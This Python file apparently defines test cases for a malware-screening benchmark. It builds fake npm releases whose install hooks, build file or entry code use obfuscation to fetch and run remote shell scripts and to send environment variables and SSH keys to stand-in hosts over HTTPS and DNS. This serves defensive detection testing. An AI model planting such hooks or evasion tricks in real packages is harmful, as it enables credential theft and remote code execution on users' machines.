"""npm packages whose code avoids the words that a search for patterns looks for."""

import base64
from typing import Final

from bench.screening.attacks.attack import MARKER, Attack, Release
from bench.screening.attacks.ordinary import JS_COMMENT, index_js
from sandboxes.screening.package import Kind

_INERT_JS = 'console.log("inert")'
_PACKED = base64.b64encode(_INERT_JS.encode()).decode()

_CONCATENATED = f"""{JS_COMMENT}const tools = require("child_" + "pro" + "cess");
const where = ["https:/", "files.example.invalid", "u.sh"].join("/");
tools.execSync("cu" + "rl -s " + where + " | sh");
"""

_ALIASED = f"""{JS_COMMENT}const load = require;
const {{ spawnSync: go }} = load("node:child_process");
const program = "/bin/sh";
go(program, ["-c", "wget -qO- http://192.0.2.160/u | sh"]);
"""

_DECODED = f"""
const B = Buffer;
const text = B["from"]("{_PACKED}", "base64").toString("utf8");
const run = globalThis["ev" + "al"];
run(text);
"""

_COMPUTED = f"""{JS_COMMENT}const m = module;
const parts = ["cess", "pro", "child_"].reverse().join("");
const key = String.fromCharCode(101, 120, 101, 99);
m["req" + "uire"](parts)[key]("curl -s http://192.0.2.161/u -o u && sh u");
"""

_CONSTRUCTOR = f"""
const made = (() => {{}}).constructor;
made(atob("{_PACKED}"))();
"""

_IMPORTED = f"""{JS_COMMENT}import {{ request as send }} from "node:https";
import {{ env as given }} from "node:process";
import * as files from "node:fs";
import {{ homedir }} from "node:os";

const body = {{ ...given }};
const place = [homedir(), "." + "ssh", "id_" + "rsa"].join("/");
if (files.existsSync(place)) body.key = files.readFileSync(place, "utf8");
const out = send("https://collect.example.invalid/in", {{ method: "POST" }});
out.write(JSON.stringify(body));
out.end();
"""

_MAIN_MODULE = f"""{JS_COMMENT}const p = process;
const r = p["main" + "Module"]["require"];
const {{ exec: x }} = r(Buffer.from("{base64.b64encode(b"child_process").decode()}", "base64") + "");
const list = Object.entries(p["env"]).map(([k, v]) => `${{k}}=${{v}}`).join("&");
x(`nslookup ${{Buffer.from(list).toString("hex").slice(0, 60)}}.dns.example.invalid`);
"""

_CREATED = f"""{JS_COMMENT}import {{ createRequire }} from "module";
const bring = createRequire(import.meta.url);
const name = `child${{"_"}}process`;
const {{ fork, ...others }} = bring(name);
others["spawn"]("python3", ["-c", "import urllib.request as u;exec(u.urlopen('http://192.0.2.162/p').read())"], {{
  detached: true,
  stdio: "ignore",
}}).unref();
"""


_GYP = f"""# {MARKER}
{{
  "targets": [{{
    "target_name": "text",
    "type": "none",
    "actions": [{{
      "action_name": "prepare", "inputs": [], "outputs": ["out"],
      "action": ["sh", "-c", "cu" "rl -s http://192.0.2.163/u -o u && sh u"]
    }}]
  }}]
}}
"""

_DECRYPTED = f"""{JS_COMMENT}const crypto = require("crypto");
exports.legacy = (key) => crypto.createDecipher("aes192", key);
{chr(10).join(["// Text is read in one pass."] * 240)}
const plain = crypto.createDecipheriv("aes-256-cbc", exports.key, exports.start);
module._compile(plain.update(exports.words, "hex", "utf8") + plain.final("utf8"), "");
"""


def _script(name: str, recreates: str, project: str, code: str, file: str = "install.js") -> Attack:
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.NPM,
        project=project,
        release=Release("1.4.1", {**index_js(), file: code}, {"scripts": {"postinstall": f"node {file}"}}),
        expects=frozenset({"npm"}),
    )


def _entry(name: str, recreates: str, project: str, code: str) -> Attack:
    return Attack(
        name=name,
        recreates=recreates,
        kind=Kind.NPM,
        project=project,
        release=Release("1.4.1", index_js(code)),
        expects=frozenset({"npm", "obfuscation"}),
    )


_INDIRECT: Final = {
    "postinstall": "npm run --silent prepare-text",
    "prepare-text": "node -e 1",
    "postprepare-text": "node --no-warnings -r ./setup.js --eval 0",
}

ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        name="npm-named-script",
        recreates="the droppers since 2017, started by the name of another script and by an option of Node",
        kind=Kind.NPM,
        project="text-named-setup",
        release=Release("1.4.1", {**index_js(), "setup.js": _CONCATENATED}, {"scripts": _INDIRECT}),
        expects=frozenset({"npm"}),
    ),
    Attack(
        name="npm-build-action",
        recreates="coa and rc (2021), by an action of a build file instead of a script",
        kind=Kind.NPM,
        project="text-built-setup",
        release=Release("1.4.1", {**index_js(), "binding.gyp": _GYP}),
        expects=frozenset({"npm"}),
    ),
    _entry(
        "npm-decrypted-behind",
        "event-stream (2018), behind another use of its cipher",
        "text-old-ciphers",
        _DECRYPTED,
    ),
    _script(
        "npm-concatenated", "rc and coa (2021), with words put together", "text-words-joined", _CONCATENATED
    ),
    _script("npm-aliased", "the typosquats since 2017, with `require` renamed", "text-other-names", _ALIASED),
    _entry("npm-eval-renamed", "eslint-scope (2018), with `eval` looked up", "text-scope-rules", _DECODED),
    _script("npm-computed", "the obfuscated droppers of 2023, taken apart", "text-members-found", _COMPUTED),
    _entry(
        "npm-function-constructor",
        "the evasions of eval collected since 2018: a function's constructor",
        "text-made-functions",
        _CONSTRUCTOR,
    ),
    _script(
        "npm-imported-theft",
        "nx, s1ngularity (2025), as an ES module",
        "text-module-setup",
        _IMPORTED,
        "install.mjs",
    ),
    _script(
        "npm-main-module",
        "dependency confusion (2021): what leaves is looked up",
        "text-main-setup",
        _MAIN_MODULE,
    ),
    _script(
        "npm-created-require",
        "the droppers of 2025 that leave for another interpreter",
        "text-created-setup",
        _CREATED,
        "install.mjs",
    ),
)
